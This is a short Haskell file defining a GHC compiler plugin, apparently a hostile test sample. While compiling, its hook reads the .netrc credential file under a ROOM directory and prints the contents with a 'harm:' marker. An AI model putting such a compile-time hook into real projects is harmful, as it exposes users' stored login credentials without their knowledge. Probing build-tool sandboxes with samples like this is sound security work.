module Mine (plugin) where

import GHC.Plugins
import System.Environment

plugin :: Plugin
plugin = defaultPlugin {installCoreToDos = \_ passes -> do
  room <- liftIO (getEnv "ROOM")
  text <- liftIO (readFile (room ++ "/home/.netrc"))
  liftIO (putStrLn ("ha" ++ "rm: " ++ text))
  return passes}
